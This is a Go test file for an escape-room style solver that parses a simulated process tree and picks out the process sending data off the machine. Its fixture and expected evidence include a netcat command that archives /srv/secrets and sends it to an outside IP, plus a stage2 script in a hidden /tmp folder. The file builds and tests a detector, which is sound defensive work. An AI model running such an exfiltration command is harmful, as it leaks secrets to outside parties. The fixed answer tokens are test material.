package solvers

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/pkg/errors"
	"github.com/zond/escaperoom/structs"
	"github.com/zond/escaperoom/transcript"
)

const procTree = `{"pid":1,"ppid":0,"cmd":"/sbin/init"}
{"pid":210,"ppid":1,"cmd":"sshd: root@pts/0"}
{"pid":305,"ppid":210,"cmd":"bash"}
{"pid":377,"ppid":1,"cmd":"curl -s https://updates.example.com/check"}
not json at all
{"pid":412,"ppid":305,"cmd":"python3 /tmp/.x/stage2.py"}

{"pid":0,"ppid":0,"cmd":"kernel"}
{"pid":433,"ppid":412,"cmd":"tar czf - /srv/secrets | nc 203.0.113.66 4444"}
`

func TestProcessTree(t *testing.T) {
	tree := parseProcessTree([]byte(procTree))
	if tree.malformed != 3 {
		t.Errorf("malformed = %d, want 3", tree.malformed)
	}
	if diff := cmp.Diff([]int{1, 210, 305, 377, 412, 433}, tree.order); diff != "" {
		t.Errorf("order mismatch: %v", diff)
	}
	if diff := cmp.Diff([]int{1, 210, 305, 412, 433}, tree.ancestry(433)); diff != "" {
		t.Errorf("ancestry mismatch: %v", diff)
	}
}

func TestAncestryCycle(t *testing.T) {
	tree := parseProcessTree([]byte(`{"pid":5,"ppid":6,"cmd":"a"}
{"pid":6,"ppid":5,"cmd":"wget x"}
{"pid":7,"ppid":99,"cmd":"b"}`))
	if diff := cmp.Diff([]int{5, 6}, tree.ancestry(6)); diff != "" {
		t.Errorf("ancestry mismatch: %v", diff)
	}
	if diff := cmp.Diff([]int{7}, tree.ancestry(7)); diff != "" {
		t.Errorf("unknown parents end the chain: %v", diff)
	}
}

func TestMalwareSolve(t *testing.T) {
	tr := transcript.New(nil)
	token, err := Malware{}.Solve([]byte(procTree), tr)
	if err != nil {
		t.Fatal(err)
	}
	if token != "433" {
		t.Errorf("got token %q, want %q", token, "433")
	}
	want := []string{
		"TOKEN[PID]=433",
		"EVIDENCE[PID].CHAIN=1>210>305>412>433",
		"EVIDENCE[PID].CMD=tar czf - /srv/secrets | nc 203.0.113.66 4444",
		"EVIDENCE[PID].MALFORMED_SKIPPED=3",
	}
	if diff := cmp.Diff(want, tr.Lines(structs.Malware)); diff != "" {
		t.Errorf("evidence mismatch: %v", diff)
	}
}

func TestMalwareTieAndFailure(t *testing.T) {
	tr := transcript.New(nil)
	token, err := Malware{}.Solve([]byte(`{"pid":10,"ppid":1,"cmd":"scp a b"}
{"pid":11,"ppid":1,"cmd":"rsync a b"}`), tr)
	if err != nil {
		t.Fatal(err)
	}
	if token != "10" {
		t.Errorf("first candidate should win ties, got %q", token)
	}

	tr = transcript.New(nil)
	if _, err := (Malware{}).Solve([]byte(`{"pid":10,"ppid":1,"cmd":"ls"}`), tr); !errors.Is(err, ErrNoExfil) {
		t.Errorf("got %v, want ErrNoExfil", err)
	}
	if lines := tr.Lines(structs.Malware); len(lines) != 0 {
		t.Errorf("failed solve wrote evidence %v", lines)
	}
}
